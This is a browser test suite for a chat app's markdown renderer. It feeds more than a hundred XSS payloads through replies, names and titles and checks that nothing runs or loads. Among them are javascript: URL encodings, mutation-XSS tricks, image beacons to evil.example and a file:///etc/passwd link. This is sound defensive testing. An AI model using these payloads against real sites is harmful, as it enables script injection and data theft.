"""Model text is untrusted: none of these samples runs anything, styles anything or sends anything anywhere.

They come as a streamed reply, as stored text after a reload, as a bot's name and as a title.
"""

import pytest
from playwright.sync_api import expect

from .conftest import LIN, MARLOW, OTTO, go_to, say, wait_until_quiet

pytestmark = pytest.mark.browser

RUN = "window.__ran=1"
SAMPLES = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<iframe src="https://evil.example/frame"></iframe>',
    f'<a href="javascript:{RUN}">press</a>',
    f"[press](javascript:{RUN})",
    f"[press](JaVaScRiPt:{RUN})",
    f"[press](&#106;avascript:{RUN})",
    f"[press](java\tscript:{RUN})",
    f"[press]( javascript:{RUN} )",
    f"[press](data:text/html,<script>{RUN}</script>)",
    f"[press](vbscript:{RUN})",
    f"<javascript:{RUN}>",
    f"[press][r]\n\n[r]: javascript:{RUN}",
    f'![x](https://evil.example/p.png?q=secret "onerror={RUN}")',
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/api/sessions)",
    "[![x](https://evil.example/p.png)](https://evil.example/)",
    "<img src=https://evil.example/pixel.png>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import url(https://evil.example/a.css); body{display:none}</style>",
    "<style>#messages{display:none}</style>",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/b)">cover</div>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<form action=https://evil.example/><input name=q autofocus><button>send</button></form>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<video poster=https://evil.example/v.png src=https://evil.example/v.mp4 autoplay></video>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\"/></svg>",
    f"<template><script>{RUN}</script></template>",
    "<a id=text name=text>clobber</a><img name=body><form id=messages></form>",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\nx\n```',
    f"`<img src=x onerror={RUN}>`",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"# <img src=x onerror={RUN}>",
    f"> <script>{RUN}</script>",
    f"\\<img src=x onerror={RUN}\\>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<script>{RUN}",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"\u202e<script>{RUN}</script>",
    f'<https://evil.example/"onmouseover="{RUN}>',
    f'https://evil.example/"onmouseover="{RUN}',
    f'[x](https://evil.example/ "t" onmouseover={RUN})',
    f"\\(\\href{{javascript:{RUN}}}{{x}}\\)",
    "$$\\includegraphics{https://evil.example/p.png}$$",
    f"\\(\\htmlStyle{{position: fixed; inset: 0}}{{x}} \\htmlData{{on=1}}{{x}} \\url{{javascript:{RUN}}}\\)",
    f"$$\\text{{<img src=x onerror={RUN}>}} \\verb|<script>{RUN}</script>|$$",
    "\\[\\color{url(https://evil.example/c)} x \\def\\a{\\a\\a} \\a\\]",
    f"\\(x</math><img src=x onerror={RUN}>\\)",
    f"[press](&#x6A;&#97;vascript&colon;{RUN})",
    f"[press](javascript&#58;{RUN})",
    f"[press](java&Tab;script&colon;{RUN})",
    f"[press](<java&NewLine;script:{RUN}>)",
    f"[press](<\x01javascript:{RUN}>)",
    f"[press](<&#1;&#32;javascript:{RUN}>)",
    f"[press](<java\x00script:{RUN}>)",
    f"[press](<&amp;#106;avascript:{RUN}>)",
    f"[press](\\j\\a\\v\\ascript:{RUN})",
    f"[press](%6aavascript:{RUN})",
    f"[press](feed:javascript:{RUN})",
    f"[press](blob:https://evil.example/{RUN})",
    f"[press](filesystem:https://evil.example/{RUN})",
    "[press](file:///etc/passwd)",
    "[press](//evil.example/x)",
    "[press](/api/sessions)",
    "[press](https:evil.example)",
    "[press](https://)",
    f"[press](data:text/html;base64,{RUN})",
    f"![press](data:image/svg+xml,<svg onload={RUN}>)",
    f"![press][r]\n\n[r]: data:text/html,{RUN}",
    f"[press][]\n\n[press]: <java&Tab;script:{RUN}>",
    f"[press]\n\n[press]: JAVASCRIPT:{RUN} (title)",
    f'[press][r]\n\n[r]: https://evil.example/ "x\\" onmouseover={RUN} y=\\""',
    f"<data:text/html,{RUN}>",
    f"<vbscript:{RUN}>",
    f"<x-y:javascript:{RUN}>",
    f"<https://evil.example/&quot;onclick={RUN}>",
    f"www.evil.example/<img/src=x/onerror={RUN}>",
    f"mailto:javascript:{RUN}@evil.example",
    f"[[[press](javascript:{RUN})](data:,x)](https://evil.example/)",
    f"[a [b](https://b.example/) <https://c.example/> ![d](javascript:{RUN})](https://evil.example/)",
    f"[![![x](javascript:{RUN})](data:,{RUN})](vbscript:{RUN})",
    f"[`press`**<b onclick={RUN}>**](https://evil.example/)",
    f"<pre><b onclick={RUN}>&lt;script&gt;</b>{RUN}</pre>",
    f"<code>&lt;img src=x onerror={RUN}&gt;</code>",
    f"<textarea></textarea><script>{RUN}</script>",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#x3c;/script&#x3e;",
    f"&notareference; &lt &LT; &#0; &#xD800; &#9999999; &quot;onload={RUN}",
    f"# [h](javascript:{RUN}) <img src=x onerror={RUN}>\n===",
    f"- [ ] <img src=x onerror={RUN}>\n- [x] [y](javascript:{RUN})",
    f'1000000. <script>{RUN}</script>\n1. " onclick={RUN}',
    f"| a |\n|:-:|\n| [x](javascript:{RUN}) \\| <svg onload={RUN}> |",
    f"```html onclick={RUN}\n<script>{RUN}</script>\n```",
    f"```&quot;&gt;&lt;img\n</code></pre><img src=x onerror={RUN}>\n```",
    f"~~~xml\n<style>{RUN}</style><script>{RUN}</script>\n~~~",
    f"<!-- --><script>{RUN}</script>\n\n<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?x <img src=x onerror={RUN}>?>",
]
PLACES = ["{}", "> - {}", "| a | {} |\n|---|---|\n| {} | b |", "**{}", "```\n{}\n```\n\n{}"]
ALLOWED = {
    "A",
    "BLOCKQUOTE",
    "BR",
    "BUTTON",
    "CODE",
    "DEL",
    "DIV",
    "EM",
    "H3",
    "HR",
    "LI",
    "OL",
    "P",
    "PRE",
    "SPAN",
    "STRONG",
    "TABLE",
    "TBODY",
    "TD",
    "TH",
    "THEAD",
    "TR",
    "UL",
    *["math", "mfrac", "mi", "mn", "mo", "mrow", "mspace", "mstyle", "msub", "msup", "mtext", "semantics"],
}
ATTRIBUTES = {
    "align",
    "aria-label",
    "aria-pressed",
    "class",
    "data-tex",  # a formula's source, for who copies it as text
    "dir",
    "display",
    "href",
    "rel",
    "role",
    "start",
    "tabindex",
    "target",
    "title",
    "type",
}


def assert_harmless(page):
    assert page.evaluate("window.__ran") is None
    found = page.evaluate("""() => [...document.querySelectorAll(".md *")].map((one) =>
      [one.tagName, [...one.attributes].map((attribute) => attribute.name), one.getAttribute("href")])""")
    for tag, attributes, href in found:
        assert tag in ALLOWED, tag
        assert set(attributes) <= ATTRIBUTES, (tag, attributes)
        assert href is None or href.startswith(("https://", "http://", "mailto:")), href


@pytest.mark.slow  # each of some hundred samples is a reply of its own
@pytest.mark.parametrize("samples", [SAMPLES[i::4] for i in range(4)], ids=range(4))
def test_streamed_samples_run_nothing_and_send_nothing(page, open_session, site, samples):
    """Each sample is a reply of its own, then all of them are loaded again as stored text."""
    open_session(MARLOW, OTTO, LIN, turn_order="all")  # three replies to each message
    replies = page.locator(".from-bot .md")
    greetings = replies.count()
    for said in range(0, len(samples), 3):
        site.model.scripts.extend(samples[said:said + 3])
        say(page, "next")
        expect(replies).to_have_count(greetings + said + 3)
        wait_until_quiet(page)
        assert_harmless(page)
    assert not site.model.scripts
    page.reload()
    wait_until_quiet(page)
    expect(page.locator(".from-bot")).not_to_have_count(0)
    assert_harmless(page)
    page.wait_for_timeout(200)
    assert page.evaluate("window.__ran") is None


def test_samples_in_every_place_do_nothing_either_however_they_are_cut(page, site):
    """Some 500 texts, each grown in pieces and then shown whole, straight through the module."""
    payloads = [place.replace("{}", sample) for sample in SAMPLES for place in PLACES]
    assert len(payloads) >= 500
    go_to(page)
    page.evaluate(
        """async (payloads) => {
          const app = document.querySelector("script[type=module]").src;
          const { MarkdownView } = (await import(app)).modules["text/markdown.js"];
          const place = document.querySelector("#messages");
          for (const text of payloads) {
            const root = document.createElement("div");
            root.className = "md";
            place.append(root);
            const view = new MarkdownView(root);
            for (let end = 3; end < text.length; end += 7) view.grow(text.slice(0, end));
            view.show(text);
          }
        }""",
        payloads,
    )
    assert page.locator("#messages > .md").count() == len(payloads)
    page.wait_for_timeout(300)  # what would be loaded or run has had its time
    assert_harmless(page)


def test_html_is_shown_as_the_text_that_it_is(page, open_session, site):
    open_session()
    site.model.scripts.append("Use <b>bold</b> & <script>alert(1)</script> here.\n\n<div>block</div>")
    say(page, "go")
    wait_until_quiet(page)
    paragraphs = page.locator(".from-bot .md > p")
    expect(paragraphs).to_have_text(["Use <b>bold</b> & <script>alert(1)</script> here.", "<div>block</div>"])


def drawn(page, text):
    """HTML and text of a reply; the same if it came in two pieces, cut anywhere, or in many."""
    return page.evaluate(
        """async (text) => {
          const app = document.querySelector("script[type=module]").src;
          const { MarkdownView } = (await import(app)).modules["text/markdown.js"];
          const whole = document.createElement("div");
          new MarkdownView(whole).show(text);
          const steps = new MarkdownView(document.createElement("div"));
          for (let end = 1; end < text.length; end += 1) {
            const once = new MarkdownView(document.createElement("div"));
            for (const view of [once, steps]) view.grow(text.slice(0, end));
            if (end === text.length - 1) steps.show(text);
            once.show(text);
            for (const { root } of end === text.length - 1 ? [once, steps] : [once])
              if (root.innerHTML !== whole.innerHTML) throw new Error(`${end}: ${root.innerHTML}`);
          }
          return [whole.innerHTML.trim(), whole.textContent.trim()];
        }""",
        text,
    )


def test_words_put_behind_a_paragraph_are_what_reading_it_again_makes_of_them(page):
    """A text that comes letter by letter, or word by word, looks at every moment as one that came at once."""
    go_to(page)
    texts = [
        "The quick fox, it's 12.5 o'clock: see www.example.org or a.b@c.org now. 3-4 more; \u201cyes\u201d!",
        "1234567.8 1234568.9 1234569.0 and on", "[a b]: c 'd e' f", "[a b]:\nc 'd e' f",
        '[a b c](d "e f") g', "a | b\n--- | -\n1 | 2 3", "a b | c d\n--- b", "1. one two\n2. three four",
        "a b\n12. c d\n1. e f", "a word\n=== x", "a word\n--- b", "a word\n---", "a &amp b &amp; c &am p;",
        "**a b** c d **e f", "*a b. *c* d e", "x $a$ 5 and $5 or 10$ b, $c d$, e", "\\(a b\\) c d",
        "- a b\n  c d\n- e f", "> a b c\nd e f", "a b  \nc d  e", "at http://x.org/y z, ftp://z w",
        "foo bar_baz_ qux _a b_ c", "<b x y>z w <br> v", "`a b` c d `e f", "~~a b~~ c d",
        "a <sub>b c</sub> d", "    a b c\nd e", "a b\n    c d e", "# a b c\nd e",
        "\u05d0\u05d1 \u05d2 \u05d3\u05d4", "![a b](c) d",
    ]
    failed = page.evaluate(
        """async (texts) => {
          const app = document.querySelector("script[type=module]").src;
          const { MarkdownView } = (await import(app)).modules["text/markdown.js"];
          const view = () => new MarkdownView(document.createElement("div"));
          for (const text of texts) {
            const [letters, words] = [view(), view()];
            for (let end = 1; end <= text.length; end += 1) {
              const whole = view();
              const isWord = text[end] === " " || end === text.length;
              const grown = isWord ? [letters, words] : [letters];
              for (const one of [whole, ...grown]) one.grow(text.slice(0, end));
              const wrong = grown.find(({ root }) => root.innerHTML !== whole.root.innerHTML);
              if (wrong) return [text.slice(0, end), wrong.root.innerHTML, whole.root.innerHTML];
            }
          }
          return null;
        }""",
        texts,
    )
    assert failed is None


def test_each_kind_of_markdown_becomes_its_element_however_it_came(page):
    go_to(page)
    expected = {
        "a *b* **c** ~~d~~ `e` \\*": "<p>a <em>b</em> <strong>c</strong> <del>d</del> <code>e</code> *</p>",
        "a\nb": "<p>a<br>b</p>",
        "H<sub>2</sub>O, x<sup>*n*</sup>": "<p>H<sub>2</sub>O, x<sup><em>n</em></sup></p>",
        "a <sub>b, c</sup> </sub": "<p>a &lt;sub&gt;b, c&lt;/sup&gt; &lt;/sub</p>",
        "a <br> b <sub class=x>c</sub>": "<p>a <br> b &lt;sub class=x&gt;c&lt;/sub&gt;</p>",
        "## a": '<h3 class="heading-2">a</h3>',
        "> a\n>\n> - b": "<blockquote><p>a</p>\n<ul><li>b</li>\n</ul>\n</blockquote>",
        "3. a\n4. b": '<ol start="3"><li>a</li>\n<li>b</li>\n</ol>',
        "- [ ] a\n- [x] b": "<ul><li>☐ a</li>\n<li>☑ b</li>\n</ul>",
        "- a\n\n- b": "<ul><li><p>a</p>\n</li>\n<li><p>b</p>\n</li>\n</ul>",
        "a\n\n---": "<p>a</p>\n<hr>",
        "| a | b |\n|---|--:|\n| 1 | 2 |": '<div class="table-scroll" tabindex="0" role="group" '
        'aria-label="Table"><table><thead><tr><th>a</th>\n<th align="right">b</th>\n</tr></thead>'
        '<tbody><tr><td>1</td>\n<td align="right">2</td>\n</tr></tbody></table></div>',
        "&copy; &amp;amp; &#x41; &nonsense; &lt;b&gt;": "<p>© &amp;amp; A &amp;nonsense; &lt;b&gt;</p>",
        "a \\(\\b{\\) c": '<p>a <span class="math" dir="ltr" data-tex="\\b{">\\b{</span> c</p>',
        "a <b>c</b>": "<p>a &lt;b&gt;c&lt;/b&gt;</p>",
        "![a *b*](https://x.example/p.png)": '<p><a href="https://x.example/p.png" target="_blank" '
        'rel="noopener noreferrer nofollow" title="https://x.example/p.png">Picture: a *b* '
        '<span class="link-target">(x.example)</span></a></p>',
    }  # fmt: skip
    got = {text: drawn(page, text)[0].replace(' dir="auto"', "") for text in expected}
    assert got == expected


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<https://x.example>", "https://x.example"),
        ("<https://\u0430pple.com/>", "https://\u0430pple.com/ (xn--pple-43d.com)"),
        ("[https://bank.example](https://evil.example)", "https://bank.example (evil.example)"),
        ("[a](https://bank.example@evil.example/)", "a (evil.example)"),
        ("[a [b](https://b.example) c](https://x.example)", "[a b (b.example) c](https://x.example)"),
        ("[![p](https://p.example)](https://x.example)", "Picture: p (x.example)"),
        ("[a](/api/sessions) [b](javascript:1) [c](data:,x)", "a b c"),
    ],
)
def test_a_link_never_leads_elsewhere_than_it_says(page, text, shown):
    go_to(page)
    assert drawn(page, text)[1] == shown


def test_a_link_says_where_it_leads_and_opens_without_a_way_back(page, open_session, site):
    open_session()
    site.model.scripts.append(
        "[your bank](https://evil.example/login) https://plain.example/x [mail](mailto:a@b.example)"
    )
    say(page, "go")
    wait_until_quiet(page)
    expect(page.locator(".from-bot .md a")).to_have_text(
        ["your bank (evil.example)", "https://plain.example/x", "mail (a@b.example)"]
    )
    link = page.locator(".from-bot .md a").first
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("title") == "https://evil.example/login"


def test_names_titles_and_errors_are_text_too(page, site):
    sample = f"<img src=x onerror={RUN}>"
    bot = site.api(
        "POST",
        "/api/bots",
        {"name": sample, "color": "#123456", "persona": sample, "greeting": sample, "sampling": {}},
    )["bot"]
    session_id = site.session(bot["id"], title=sample, system_prompt=sample, user_name="<b>me</b>")
    go_to(page, session_id)
    say(page, "fail")
    wait_until_quiet(page)
    for tab in ("session", "bot", "model", "sampling"):
        page.click(f"#tab-{tab}")
    page.click(f"[href='./#{session_id}'] + .session-more", force=True)
    page.keyboard.press("Escape")
    assert page.evaluate("window.__ran") is None
    assert page.locator("img").count() == 0
    site.api("DELETE", f"/api/bots/{bot['id']}")


@pytest.mark.parametrize(
    "text",
    [
        "> " * 4000 + "deep",
        "- " * 3000 + "x",
        "[" * 20_000,
        "*" * 20_000,
        "`" * 20_000,
        "<" * 20_000,
        "| a " * 2000 + "|\n" + "|---" * 2000 + "|",
    ],
    ids=["quotes", "lists", "brackets", "stars", "ticks", "angles", "columns"],
)
def test_text_that_is_made_to_choke_a_parser_is_shown(page, site, text):
    go_to(page, site.import_path(["Hello", text, "and after"]))
    expect(page.locator(".from-user .md").last).to_have_text("and after")
    expect(page.locator(".from-bot .md > *")).not_to_have_count(0)


MANY = 33_000
OPENINGS = {"brackets": "\\( ", "dollars": "$$\n", "blocks": "\\[\n", "one": "$x "}
UNCLOSED = {name: opening * MANY for name, opening in OPENINGS.items()}


@pytest.mark.parametrize("text", UNCLOSED.values(), ids=UNCLOSED)
def test_delimiters_that_are_never_closed_are_shown_as_they_are_written(page, site, text):
    """Looking for their ends costs no more than a bound; more openings than that are plain text."""
    go_to(page, site.import_path(["Hello", text, "and after"]))
    expect(page.locator(".from-user .md").last).to_have_text("and after")
    assert page.locator(".math").count() == 0
    shown = page.locator(".from-bot .md").text_content()
    assert shown.count("$") == text.count("$") and shown.count("[") == text.count("[")


def test_thousands_of_formulas_are_set_in_slices_and_no_more_than_a_bound(page, site):
    page.add_init_script("""
      window.counts = new Set();
      const look = () => {
        window.counts.add(document.querySelectorAll(".math math").length);
        setTimeout(look);
      };
      document.addEventListener("DOMContentLoaded", look);""")
    text = " ".join(f"Let $x_{{{number}}}^2 + y$ be so." for number in range(1050))
    go_to(page, site.import_path(["Hello", text, "and after"]))
    expect(page.locator(".from-user .md").last).to_have_text("and after")
    expect(page.locator(".math math")).to_have_count(1000)
    assert page.locator(".math").count() == 1050
    assert page.evaluate("window.counts.size") > 20  # others had their turn in between


def test_the_formulas_of_the_next_text_are_set_whatever_stood_in_the_one_before(page, site):
    go_to(page, site.import_path(["Hello", UNCLOSED["dollars"], "and $x^2$ after"]))
    expect(page.locator(".from-user .math math")).to_have_count(1)
